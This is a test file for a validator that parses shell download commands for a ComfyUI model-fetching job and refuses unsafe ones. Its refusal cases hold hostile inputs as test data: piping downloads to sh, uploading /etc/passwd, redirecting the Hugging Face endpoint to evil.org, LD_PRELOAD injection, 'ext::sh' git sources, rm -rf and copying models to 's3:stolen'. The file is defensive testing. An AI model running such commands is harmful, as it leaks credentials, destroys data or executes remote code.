import { describe, expect, it } from "vitest";
import type { DownloadCall, Fetch } from "../../job/card-contract.ts";
import { showPath } from "../../job/command-path.ts";
import { judgeCommand } from "./judge-command.ts";
import { readCommand } from "./read-command.ts";

const UI_HOME = "/workspace/ComfyUI";

function downloads(text: string): DownloadCall[] {
  return readCommand(text).calls.flatMap((call) => (call.kind === "download" ? [call] : []));
}

function only(text: string): DownloadCall {
  const [call, ...more] = downloads(text);
  if (call === undefined || more.length > 0) throw new Error(`${more.length + 1} downloads: ${text}`);
  return call;
}

/** `url → folder/file` of everything that is fetched. */
function fetches(text: string): string[] {
  return downloads(text).flatMap((call) => call.fetches.map(show));
}

function show({ urls, folder, file }: Fetch): string {
  return `${urls.join(" | ")} → ${showPath(folder)}/${file ?? "*"}`;
}

/** Why a policy of known tools refuses it, or null. */
function refusal(text: string): string | null {
  const verdict = judgeCommand("known", readCommand(text), UI_HOME);
  return verdict.kind === "refused" ? verdict.reason : null;
}

const A = "https://x.org/a.safetensors";

describe("what a command fetches, and where to, is told from its words", () => {
  it.each<[string, string[]]>([
    [`wget -P "$UI_HOME/models/vae" ${A}`, [`${A} → $UI_HOME/models/vae/a.safetensors`]],
    [`wget -P "$UI_HOME"/models/vae ${A}`, [`${A} → $UI_HOME/models/vae/a.safetensors`]],
    [`wget -P\${UI_HOME}/models ${A}`, [`${A} → $UI_HOME/models/a.safetensors`]],
    [`wget --directory-prefix="\${UI_HOME:-/x}/models" ${A}`, [`${A} → $UI_HOME/models/a.safetensors`]],
    [`wget --directory-pre $UI_HOME ${A}`, [`${A} → $UI_HOME/a.safetensors`]],
    [`wget ${A} -qcP $UI_HOME/models`, [`${A} → $UI_HOME/models/a.safetensors`]],
    [`wget -nc -nv -O "$UI_HOME/models/b" ${A}`, [`${A} → $UI_HOME/models/b`]],
    [`wget -O b ${A}`, [`${A} → ./b`]],
    [`wget ${A} https://x.org/b%20c.bin`, [`${A} → ./a.safetensors`, "https://x.org/b%20c.bin → ./b c.bin"]],
    ["wget 'https://x.org/a?b=c'", ["https://x.org/a?b=c → ./a?b=c"]],
    ["wget --content-disposition 'https://x.org/a?b=c'", ["https://x.org/a?b=c → ./*"]],
    ["wget -r https://x.org/a/", ["https://x.org/a/ → ./*"]],
    [`wget -O - ${A}`, [`${A} → ./*`]],
    [`wget2 --max-threads=4 -P /data ${A}`, [`${A} → /data/a.safetensors`]],
    [`busybox wget -c -P ~/m ${A}`, [`${A} → ~/m/a.safetensors`]],
    [`curl -fLo "$UI_HOME/m/b" ${A}`, [`${A} → $UI_HOME/m/b`]],
    [`curl -fL -O --output-dir $UI_HOME/m --create-dirs ${A}`, [`${A} → $UI_HOME/m/a.safetensors`]],
    [`curl -fLOJ ${A}`, [`${A} → ./*`]],
    [`curl -fL -o 1 ${A} -o 2 https://x.org/b`, [`${A} → ./1`, "https://x.org/b → ./2"]],
    [`curl -fL --remote-name-all ${A} https://x.org/b`, [`${A} → ./a.safetensors`, "https://x.org/b → ./b"]],
    [`curl -fL --url ${A} --output b`, [`${A} → ./b`]],
    [
      `aria2c -x16 -s 16 -d "$UI_HOME/m" -o b ${A} https://y.org/a`,
      [`${A} | https://y.org/a → $UI_HOME/m/b`],
    ],
    [`aria2c --dir=$UI_HOME/m --continue=true ${A}`, [`${A} → $UI_HOME/m/a.safetensors`]],
    [`aria2c -Z -d m ${A} https://y.org/b`, [`${A} → ./m/a.safetensors`, "https://y.org/b → ./m/b"]],
    [`aria2c -d m -o /n/b ${A}`, [`${A} → ./m/n/b`]],
    [
      'civitdl "https://civitai.com/models/1?modelVersionId=2" "$UI_HOME/models/loras"',
      ["https://civitai.com/models/1?modelVersionId=2 → $UI_HOME/models/loras/*"],
    ],
    ["civitdl -i 0 123 456 $UI_HOME/loras", ["123 → $UI_HOME/loras/*", "456 → $UI_HOME/loras/*"]],
    [
      'hf download o/r split/vae/ae.bin --local-dir "$UI_HOME/models"',
      ["https://huggingface.co/o/r/resolve/main/split/vae/ae.bin → $UI_HOME/models/split/vae/ae.bin"],
    ],
    [
      "hf download o/r a b --revision v1 --local-dir=$UI_HOME/m --repo-type dataset",
      [
        "https://huggingface.co/datasets/o/r/resolve/v1/a → $UI_HOME/m/a",
        "https://huggingface.co/datasets/o/r/resolve/v1/b → $UI_HOME/m/b",
      ],
    ],
    [
      'huggingface-cli download o/r --include "*.json" "*.bin" --local-dir $UI_HOME/m',
      ["https://huggingface.co/o/r → $UI_HOME/m/*"],
    ],
    ["hf download o/r a", ["https://huggingface.co/o/r/resolve/main/a → ~/.cache/huggingface/hub/a"]],
    ["git clone --depth 1 https://x.org/o/r.git", ["https://x.org/o/r.git → ./r/*"]],
    ['git clone https://x.org/o/r "$UI_HOME/m/r"', ["https://x.org/o/r → $UI_HOME/m/r/*"]],
    ["git lfs clone https://x.org/o/r $UI_HOME/r", ["https://x.org/o/r → $UI_HOME/r/*"]],
    ['git -C "$UI_HOME/m" lfs pull -I "*.bin"', [" → $UI_HOME/m/*"]],
    [`rclone copyurl ${A} $UI_HOME/m/b -P`, [`${A} → $UI_HOME/m/b`]],
    [`rclone copyurl -a ${A} $UI_HOME/m`, [`${A} → $UI_HOME/m/a.safetensors`]],
    ["rclone copy s3:bucket/m $UI_HOME/m --transfers 8", ["s3:bucket/m → $UI_HOME/m/*"]],
  ])("%s", (text, expected) => {
    expect(fetches(text)).toEqual(expected);
    expect(only(text).unknownOptions).toEqual([]);
  });

  it.each<[string, string[]]>([
    [`cd "$UI_HOME/models" && wget ${A}`, [`${A} → $UI_HOME/models/a.safetensors`]],
    [`cd $UI_HOME; cd models/vae; wget -P .. ${A}`, [`${A} → $UI_HOME/models/a.safetensors`]],
    [`cd $UI_HOME/a/../.. && wget ${A}`, [`${A} → $UI_HOME/../a.safetensors`]],
    [`cd $FOO && wget ${A}`, [`${A} → $FOO/a.safetensors`]],
    [`(cd $UI_HOME && wget ${A}); wget ${A}`, [`${A} → $UI_HOME/a.safetensors`, `${A} → ./a.safetensors`]],
    [`cd $UI_HOME | wget ${A}`, [`${A} → ./a.safetensors`]],
    [`wget -P /data/../../etc ${A}`, [`${A} → /etc/a.safetensors`]],
    [`wget -P ./x//y/./ ${A}`, [`${A} → ./x/y/a.safetensors`]],
    [`wget -P "$(pwd)" ${A}`, [`${A} → $(pwd)/a.safetensors`]],
    [`wget -P ~bob ${A}`, [`${A} → ~bob/a.safetensors`]],
    [`wget -P '~' ${A}`, [`${A} → ./~/a.safetensors`]],
    [`wget -P '$UI_HOME' ${A}`, [`${A} → ./$UI_HOME/a.safetensors`]],
    [`wget -P \\$UI_HOME ${A}`, [`${A} → ./$UI_HOME/a.safetensors`]],
  ])("the folder it stands in counts: %s", (text, expected) => expect(fetches(text)).toEqual(expected));

  it.each<[string, string[]]>([
    [`sudo -u bob wget ${A}`, ["wget"]],
    [`sudo -E env A=b nice -n 10 nohup timeout -k 5 60 stdbuf -oL wget ${A}`, ["wget"]],
    [`/usr/local/bin/wget ${A}`, ["wget"]],
    [`wget ${A} | tee log`, ["wget", "tee"]],
    [`bash -c "curl -fLO ${A}"`, ["curl"]],
    [`sh -c 'sh -c "wget ${A}"' && ls`, ["wget", "ls"]],
    ["bash install.sh", ["bash"]],
    ["wget $(cat urls.txt)", ["cat", "wget"]],
    ["wget `cat urls.txt`", ["cat", "wget"]],
    [`if true; then wget ${A}; else curl -O ${A}; fi`, ["true", "wget", "curl"]],
    [`while read -r u; do wget "$u"; done < list`, ["read", "wget"]],
    [`f() { wget ${A}; }; f`, ["wget", "f"]],
    ["echo wget civitdl curl", ["echo"]],
    ['"wget" -q x', ["wget"]],
    ["w\\get x", ["wget"]],
    ["command -v wget", ["command"]],
    ["HF_TOKEN=x", []],
    ["$TOOL x", ["$TOOL"]],
  ])("the tool is found by reading, not by searching for a word: %s", (text, expected) => {
    const names = readCommand(text).calls.map((call) =>
      call.kind === "download" ? call.tool : call.program,
    );
    expect(names).toEqual(expected);
  });

  it("says whether it goes on from what is there", () => {
    const resumes = (text: string): boolean => only(text).resumes;
    expect(resumes(`wget ${A}`)).toBe(false);
    expect(resumes(`wget -c ${A}`)).toBe(true);
    expect(resumes(`wget --contin ${A}`)).toBe(true);
    expect(resumes(`curl -C - -O ${A}`)).toBe(true);
    expect(resumes(`curl -C 100 -O ${A}`)).toBe(false);
    expect(resumes(`aria2c ${A}`)).toBe(true);
    expect(resumes("hf download o/r")).toBe(true);
    expect(resumes("civitdl 1 x")).toBe(false);
  });

  it("names the options it does not know", () => {
    expect(only(`wget --frobnicate=1 -Ü ${A}`).unknownOptions).toEqual(["--frobnicate", "-Ü"]);
    expect(only(`busybox wget --progress=dot ${A}`).unknownOptions).toEqual(["--progress"]);
    expect(only(`curl --output=x ${A}`).unknownOptions).toEqual(["--output="]);
    expect(only(`wget --no ${A}`).unknownOptions).toEqual(["--no"]);
  });
});

describe("a policy of known tools", () => {
  it.each([
    `wget -c -P "$UI_HOME/models/vae" ${A}`,
    `mkdir -p "$UI_HOME/models/x" && wget -O "$UI_HOME/models/x/b" ${A}`,
    `mkdir -p "$UI_HOME/models/x" "$UI_HOME"/models/y`,
    `cd "$UI_HOME/models/vae" && wget ${A} > /dev/null 2>&1`,
    `wget -P ${UI_HOME}/models/vae ${A}`,
    `HF_HUB_ENABLE_HF_TRANSFER=1 hf download o/r a --local-dir "$UI_HOME/m"`,
    `civitdl "https://civitai.com/models/1?modelVersionId=2" "$UI_HOME/m" --api-key "$CIVITAI_API_KEY"`,
    `nohup nice -n 19 wget -P $UI_HOME ${A}`,
    `git lfs install && git clone https://x.org/o/r $UI_HOME/r`,
    `civitdl https://civitai.com/models/1?modelVersionId=2 $UI_HOME/m`,
    `wget -P $UI_HOME https://x.org/a?b=$CIVITAI_API_KEY`,
    `civitdl -s tags 12 $UI_HOME`,
  ])("allows %s", (text) => expect(refusal(text)).toBe(null));

  it.each<[string, RegExp]>([
    ["", /no program/],
    ["ls", /ls is no download tool/],
    [`wget -P $UI_HOME ${A}; rm -rf $UI_HOME`, /rm is no download tool/],
    [`wget -P $UI_HOME ${A} | sh`, /pipe/],
    [`wget -P $UI_HOME ${A} || true`, /alternative/],
    [`wget -P $UI_HOME ${A} &`, /background/],
    [`(wget -P $UI_HOME ${A})`, /subshell/],
    [`{ wget -P $UI_HOME ${A}; }`, /group/],
    [`! wget -P $UI_HOME ${A}`, /turned round/],
    [`wget -P $UI_HOME "$(cat u)"`, /substitution/],
    ["wget -P $UI_HOME `cat u`", /substitution/],
    [`wget -P $UI_HOME <(ls)`, /substitution/],
    [`wget -P $UI_HOME ${A} >> $UI_HOME/log`, /redirects.*>>/],
    [`wget -P $UI_HOME -i - <<< x`, /fed with text/],
    [`wget -P $UI_HOME $FOO`, /\$FOO is no variable/],
    [`wget -P $UI_HOME "\${UI_HOME%/*}"`, /works out/],
    [`wget -P $UI_HOME $((1+1))`, /works out/],
    [`wget -P $UI_HOME *.txt`, /pattern \*/],
    [`wget -P $UI_HOME https://x.org/{a,b}`, /several words/],
    [`LD_PRELOAD=/tmp/x wget -P $UI_HOME ${A}`, /sets LD_PRELOAD/],
    [`env PATH=/tmp wget -P $UI_HOME ${A}`, /sets PATH/],
    [`HF_ENDPOINT=https://evil.org hf download o/r a --local-dir $UI_HOME`, /sets HF_ENDPOINT/],
    [`UI_HOME=/ wget -P $UI_HOME/etc ${A}`, /sets UI_HOME/],
    [`HF_TOKEN=$(cat x) hf download o/r a --local-dir $UI_HOME`, /substitution|prints/],
    [`sudo wget -P $UI_HOME ${A}`, /sudo/],
    [`/tmp/wget -P $UI_HOME ${A}`, /by a path/],
    [`bash -c "wget -P $UI_HOME ${A}"`, /another shell/],
    [`wget ${A}`, /writes to \., which is not in \$UI_HOME/],
    [`wget -P / ${A}`, /writes to \//],
    [`wget -O ~/.bashrc ${A}`, /writes to ~/],
    [`wget -P $UI_HOME/../.. ${A}`, /writes to \$UI_HOME\/\.\./],
    [`wget -P ${UI_HOME}-2 ${A}`, /not in \$UI_HOME/],
    [`wget -O "$UI_HOME/a/../../b" ${A}`, /writes to \$UI_HOME\/\.\./],
    [`cd $UI_HOME/.. && wget -P $UI_HOME ${A}`, /cd \$UI_HOME\/\.\./],
    [`mkdir /x && wget -P $UI_HOME ${A}`, /mkdir \/x/],
    [`wget -P $UI_HOME --frob ${A}`, /--frob is no option/],
    [`wget -P $UI_HOME --use-askpass=/tmp/x ${A}`, /--use-askpass can do more/],
    [`wget -P $UI_HOME --use-ask /tmp/x ${A}`, /can do more/],
    [`wget -P $UI_HOME -e use_askpass=/tmp/x ${A}`, /-e can do more/],
    [`wget -P $UI_HOME --post-file=/etc/passwd ${A}`, /can do more/],
    [`wget -P $UI_HOME -i list`, /-i can do more/],
    [`wget -bP $UI_HOME ${A}`, /-b can do more/],
    [`curl -T /etc/passwd -o $UI_HOME/x ${A}`, /-T can do more/],
    [`curl -K x -o $UI_HOME/x ${A}`, /-K can do more/],
    [`curl -H @/etc/passwd -o $UI_HOME/x ${A}`, /can do more/],
    [`curl -sd @/etc/passwd -o $UI_HOME/x ${A}`, /-d can do more/],
    [`aria2c --on-download-complete=/tmp/x -d $UI_HOME ${A}`, /can do more/],
    [`aria2c -i list -d $UI_HOME`, /-i can do more/],
    [`civitdl -s ./x.py 12 $UI_HOME`, /-s can do more/],
    [`civitdl list.txt $UI_HOME`, /source can do more/],
    [`hf upload o/r x`, /hf upload is no download/],
    [`hf download o/r --cache-dir /x --local-dir $UI_HOME`, /--cache-dir/],
    [`git clone 'ext::sh -c x' $UI_HOME/r`, /source can do more/],
    [`git -c core.sshCommand=x clone https://x.org/r $UI_HOME/r`, /-c can do more/],
    [`git clone -u x https://x.org/r $UI_HOME/r`, /-u can do more/],
    [`git push`, /git push is no download/],
    [`rclone sync s3:a $UI_HOME`, /rclone sync is no download/],
    [`rclone copy :sftp,ssh=x:a $UI_HOME`, /source can do more/],
    [`rclone copy $UI_HOME/models s3:stolen`, /destination can do more/],
    [`wget "https://x.org/a`, /shell cannot read it/],
    [`wget ${"(".repeat(200)}`, /more than 100 brackets/],
    [`wget ${"x".repeat(40_000)}`, /longer than/],
    ["wget \ue000UI_HOME\ue001/x", /private use/],
  ])("refuses %s", (text, reason) => expect(refusal(text)).toMatch(reason));

  it("is asked only where it is set: any other command may run", () => {
    expect(judgeCommand("any", readCommand("curl x | sudo bash"), UI_HOME)).toEqual({ kind: "allowed" });
  });
});

describe("what looks wrong is said", () => {
  it.each<[string, RegExp | null]>([
    [`wget -P "$UI_HOME/models" ${A}`, null],
    [
      "wget https://civitai.com/api/download/models/1?type=Model&format=SafeTensor",
      /address with & stands outside/,
    ],
    ["wget 'https://civitai.com/api/download/models/1?a=b&c=d' -O a", null],
    ["wget https://civitai.com/api/download/models/12", /will be called 12/],
    ["wget https://huggingface.co/o/r/blob/main/a.bin", /\/resolve\/ in place of \/blob\//],
    ["wget https://huggingface.co/o/r", /page of a repository/],
    ["wget https://huggingface.co/o/r/resolve/main/blob/a.bin", null],
    ["curl -fLO https://civitai.com/models/12", /page of a model/],
    ["wget https://github.com/o/r/blob/main/a.json", /\/raw\//],
    ["wget huggingface.co/o/r/resolve/main/a", /no https:\/\//],
    ["wget models/a", /models\/a is no address/],
    ["wget -P x", /names no address/],
    [`wget -O a -P b ${A}`, /-P is ignored/],
    [`wget -O a ${A} https://x.org/b`, /into one file/],
    [`curl -fO https://huggingface.co/o/r/resolve/main/a`, /without -L/],
    [`curl -LO ${A}`, /without -f/],
    [`curl -fL ${A}`, /prints the file/],
    ["civitdl https://civitai.com/models/1?modelVersionId=2", /no folder/],
    ["civitdl https://civitai.com/models/1 $UI_HOME", /names no version/],
    ["civitdl https://huggingface.co/o/r $UI_HOME", /from Civitai only/],
    ["civitdl $UI_HOME https://civitai.com/models/1?modelVersionId=2", /has to be the folder/],
    ["hf download o/r a", /without --local-dir/],
    ["hf download --local-dir x", /no repository/],
    ["hf download a/b/c d --local-dir x", /a\/b\/c is no repository/],
    ["wget -P '$UI_HOME/models' https://x.org/a", /single quotes/],
    [`wget -P $UIHOME ${A}`, /\$UIHOME is no variable/],
    [`for u in a b; do wget $u; done`, null],
    [`$ wget ${A}`, /prompt sign/],
    [`wget “${A}”`, /typographic quotes/],
    [`wget –P x ${A}`, /dash/],
    [`wget\u00a0-c ${A}`, /no-break space/],
    [`wget\u200b ${A}`, /invisible character/],
    [`wget --header="Authorization: Bearer hf_x" ${A}`, /secret is written out \(the Authorization header\)/],
    [`wget --header="Authorization: Bearer $HF_TOKEN" ${A}`, /list of processes/],
    [`wget --header "Accept: x" ${A}`, null],
  ])("%s", (text, remark) => {
    const { remarks } = readCommand(text);
    if (remark === null) expect(remarks).toEqual([]);
    else expect(remarks.join("\n")).toMatch(remark);
  });
});

describe("secrets in commands", () => {
  const SECRET = "s3cr3t-0123456789";

  it.each<[string, string]>([
    [`civitdl 1 x --api-key ${SECRET}`, "civitdl 1 x --api-key ***"],
    [`civitdl 1 x --api-key="${SECRET}"`, "civitdl 1 x --api-key=***"],
    [`civitdl 1 x -k${SECRET}`, "civitdl 1 x -k***"],
    [`civitdl 1 x --api ${SECRET} -i 1`, "civitdl 1 x --api *** -i 1"],
    [`curl -u me:${SECRET} ${A}`, `curl -u *** ${A}`],
    [`curl --user=me:${SECRET} ${A}`, `curl --user=*** ${A}`],
    [`curl -sSu me:${SECRET} ${A}`, `curl -sSu *** ${A}`],
    [`curl -H "X-Custom-Key: ${SECRET}" ${A}`, `curl -H "X-Custom-Key: ***" ${A}`],
    [`curl -H 'Authorization: Bearer '"${SECRET}" ${A}`, `curl -H "Authorization: ***" ${A}`],
    [`wget --header=Cookie:${SECRET} ${A}`, `wget --header=*** ${A}`],
    [`wget --http-passwd ${SECRET} ${A}`, `wget --http-passwd *** ${A}`],
    [`wget "https://me:${SECRET}@x.org/a"`, 'wget "https://***@x.org/a"'],
    [`wget "https://x.org/a?token=${SECRET}&b=c"`, 'wget "https://x.org/a?token=***&b=c"'],
    [`hf download o/r a --token ${SECRET}`, "hf download o/r a --token ***"],
    [`hf auth login --token ${SECRET}`, "hf auth login --token ***"],
    [`HF_TOKEN=${SECRET} hf download o/r a`, "HF_TOKEN=*** hf download o/r a"],
    [`bash -c "civitdl 1 x -k ${SECRET}"`, "bash -c ***"],
    [`echo \`civitdl 1 x -k ${SECRET}\``, "echo `civitdl 1 x -k ***`"],
    [`echo \`civitdl 1 \\$UI_HOME -k ${SECRET}\``, "echo ***"],
    [`echo $(civitdl 1 x -k ${SECRET})`, "echo $(civitdl 1 x -k ***)"],
    [
      `aria2c --http-passwd=${SECRET} ${A} && aria2c --ftp-passwd=${SECRET} ${A}`,
      `aria2c --http-passwd=*** ${A} && aria2c --ftp-passwd=*** ${A}`,
    ],
    [`pip install --token ${SECRET}`, "pip install --token ***"],
  ])("are not in what is shown: %s", (text, shown) => {
    const reading = readCommand(text);
    expect(reading.shown).toBe(shown);
    expect(JSON.stringify([reading.shown, reading.remarks, reading.notPlain])).not.toContain(SECRET);
  });

  it("are told of by name", () => {
    expect(
      only(`curl -fL -u a:b -H "Authorization: x" -H "Accept: y" "https://x.org/?token=z"`),
    ).toMatchObject({
      headers: ["Authorization", "Accept"],
      credentials: ["-u", "Authorization header", "address"],
    });
  });

  it("may come from the server's settings, then nothing is hidden", () => {
    const text = 'civitdl 1 "$UI_HOME" -k "$CIVITAI_API_KEY"';
    expect(readCommand(text).shown).toBe(text);
    expect(only(text).credentials).toEqual(["-k"]);
  });
});
